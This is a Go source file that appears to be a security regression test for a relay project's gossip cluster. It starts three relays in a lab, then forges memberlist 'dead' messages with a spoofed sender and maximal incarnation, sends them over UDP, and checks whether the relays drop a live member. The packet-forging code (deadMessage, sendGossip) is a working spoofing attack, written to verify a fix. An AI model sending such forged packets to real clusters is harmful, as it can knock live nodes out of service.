package breaks

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"math"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/mpdetour/mpdetour/internal/proto"
	"github.com/mpdetour/mpdetour/internal/roster"
)

const (
	gossipPort   = 7946
	relayPort    = 45673
	gossipWatch  = 10 * time.Second // how long the rosters are watched after the forgeries
	gossipForged = 5                // forged packets per observer relay
)

// gossipNodes: the victim (last) and the two relays the forgeries go to.
var gossipNodes = []string{"detour1", "detour2", "server"}

func forgedGossip(ctx context.Context, o Options) Result {
	r := Result{Break: 2, Metric: "relays removing the live relay", Target: "0"}
	l, keys, err := begin(ctx, o, "g", len(gossipNodes))
	if err != nil {
		return r.failed(err)
	}
	defer l.close()
	_, member, withSecret, err := l.gossipCluster(ctx, o, keys, false)
	if err != nil {
		return r.failed(err)
	}
	secretWord := "without gossip.secret_file (the build accepts that: its default)"
	if withSecret {
		secretWord = "with gossip.secret_file (the build refuses a cluster without it)"
	}
	victim := gossipNodes[2]
	return r.judge(gossipAttack(ctx, l, o.Binary, gossipNodes, victim, gossipNodes[:2], member, secretWord))
}

// gossipCluster starts the build's relays in gossipNodes (keys in that
// order) as one gossip cluster of a fresh collective and waits until every
// roster lists all three. Without secret it runs them as the build's
// default did when the issue was found: without gossip.secret_file when
// the build accepts that (builds before the fix), with it when the build
// requires it; with secret always with it. It returns the secret's path,
// each node's gossip member name and whether the secret is configured.
func (l *caseLab) gossipCluster(ctx context.Context, o Options, keys []proto.Key, secret bool) (string, map[string]string, bool, error) {
	auth, secretPath, err := authority(o)
	if err != nil {
		return "", nil, false, err
	}
	first := l.Addr(gossipNodes[0])
	withSecret := secret
	member := map[string]string{} // lab node -> its relay's gossip member name
	for i, node := range gossipNodes {
		k := keys[i]
		member[node] = roster.NodeName(k.Public())
		cert, err := relayCert(o, auth, k, node)
		if err != nil {
			return "", nil, false, err
		}
		addr := l.Addr(node)
		join := ""
		if i > 0 {
			join = fmt.Sprintf("    join: [%s]\n", netip.AddrPortFrom(first, gossipPort))
		}
		config := func(secretLine string) string {
			return fmt.Sprintf("listen: %s\nprivate_key: %s\nports: 40000-40999\nlease: 1m\ncollective:\n  authority: %s\n  certificate_file: %s\n  gossip:\n    bind: %s\n%s%s",
				netip.AddrPortFrom(addr, relayPort), k, auth.Public(), cert, netip.AddrPortFrom(addr, gossipPort), secretLine, join)
		}
		path := filepath.Join(o.Dir, "relay-"+node+".yaml")
		if !withSecret {
			if err := os.WriteFile(path, []byte(config("")), 0o600); err != nil {
				return "", nil, false, err
			}
			if out, err := l.run(ctx, node, o.Binary, "relay", "--config", path, "--check"); err != nil {
				if !strings.Contains(out, "secret_file") {
					return "", nil, false, fmt.Errorf("relay --check: %v: %s", err, out)
				}
				withSecret = true
			}
		}
		if withSecret {
			if err := os.WriteFile(path, []byte(config("    secret_file: "+secretPath+"\n")), 0o600); err != nil {
				return "", nil, false, err
			}
		}
		if err := l.start(ctx, node, filepath.Join(o.Dir, "relay-"+node+".log"), o.Binary, "relay", "--config", path); err != nil {
			return "", nil, false, err
		}
		if i == 0 {
			time.Sleep(500 * time.Millisecond) // the others join it
		}
	}
	converged := false
	var counts map[string]int
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end) && !converged; time.Sleep(200 * time.Millisecond) {
		converged, counts = rostersFull(ctx, l, o.Binary, gossipNodes)
	}
	if !converged {
		return "", nil, false, fmt.Errorf("the three relays did not list each other within 20 s (roster sizes %v; logs in %s)", counts, o.Dir)
	}
	return secretPath, member, withSecret, nil
}

// rostersFull reports whether every relay of nodes lists them all, with
// each roster's size.
func rostersFull(ctx context.Context, l *caseLab, bin string, nodes []string) (bool, map[string]int) {
	counts := map[string]int{}
	ok := true
	for _, n := range nodes {
		names := rosterNames(ctx, l, bin, n)
		counts[n] = len(names)
		ok = ok && len(names) == len(nodes)
	}
	return ok, counts
}

// gossipAttack sends, from the client node, gossipForged forged dead
// messages about victim (incarnation 2^32-1, from the first observer's
// member name) to each observer's gossip port, then watches the
// observers' rosters for gossipWatch: how many relays removed the victim,
// whether none did and every relay of nodes lists them all afterwards,
// and what it saw (secretWord says how the cluster was configured). The
// relays' member names are in member (lab node -> name). An error: the
// forgeries could not be sent.
func gossipAttack(ctx context.Context, l *caseLab, bin string, nodes []string, victim string, observers []string, member map[string]string, secretWord string) (float64, bool, string, error) {
	from := observers[len(observers)-1]
	msg := deadMessage(math.MaxUint32, member[victim], member[from])
	if err := l.sendGossip(observers, msg, gossipForged); err != nil {
		return 0, false, "", fmt.Errorf("sending the forged messages: %w", err)
	}
	removed := map[string]int{} // samples in which an observer's roster lacked the victim
	samples := 0
	for end := time.Now().Add(gossipWatch); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		samples++
		for _, n := range observers {
			if names := rosterNames(ctx, l, bin, n); names != nil && !names[victim] {
				removed[n]++
			}
		}
	}
	// Every relay lists all again (retried: a status call can time out on
	// loaded cores).
	back := false
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end) && !back; time.Sleep(200 * time.Millisecond) {
		back, _ = rostersFull(ctx, l, bin, nodes)
	}
	detail := fmt.Sprintf("%d forged dead messages (incarnation 2^32-1, plain) from the client node to each of %s about live %s; %s; watched %s (%d samples): ",
		gossipForged, strings.Join(observers, ", "), victim, secretWord, gossipWatch, samples)
	if len(removed) == 0 {
		detail += "the victim stayed in every roster"
	} else {
		var parts []string
		for _, n := range observers {
			if d, ok := removed[n]; ok {
				parts = append(parts, fmt.Sprintf("%s lacked it in %d samples", n, d))
			}
		}
		detail += strings.Join(parts, ", ")
	}
	if !back {
		detail += "; not listed by every relay 10 s after the watch"
	}
	return float64(len(removed)), len(removed) == 0 && back, detail, nil
}

// sendGossip sends pkt n times from the client node to each of nodes'
// gossip port.
func (l *caseLab) sendGossip(nodes []string, pkt []byte, n int) error {
	return l.do("client", func() error {
		for _, node := range nodes {
			c, err := net.Dial("udp", netip.AddrPortFrom(l.Addr(node), gossipPort).String())
			if err != nil {
				return err
			}
			for range n {
				if _, err := c.Write(pkt); err != nil {
					c.Close()
					return err
				}
			}
			c.Close()
		}
		return nil
	})
}

// rosterNames asks node's relay for its roster (the build's own
// "relay status --json"); nil when it does not answer.
func rosterNames(ctx context.Context, l *caseLab, bin, node string) map[string]bool {
	out, err := l.output(ctx, node, bin, "relay", "status", "--json")
	if err != nil {
		return nil
	}
	var st struct {
		Roster *struct {
			Relays []struct {
				Name string `json:"name"`
			} `json:"relays"`
		} `json:"roster"`
	}
	if json.Unmarshal([]byte(out), &st) != nil || st.Roster == nil {
		return nil
	}
	m := map[string]bool{}
	for _, e := range st.Roster.Relays {
		m[e.Name] = true
	}
	return m
}

// deadMessage is memberlist's dead message (type 5, msgpack map of the
// struct's fields) as an unencrypted packet carries it.
func deadMessage(inc uint32, node, from string) []byte {
	b := []byte{5, 0x83}
	str := func(s string) {
		if len(s) < 32 {
			b = append(b, 0xa0|byte(len(s)))
		} else {
			b = append(b, 0xd9, byte(len(s)))
		}
		b = append(b, s...)
	}
	str("Incarnation")
	b = binary.BigEndian.AppendUint32(append(b, 0xce), inc)
	str("Node")
	str(node)
	str("From")
	str(from)
	return b
}
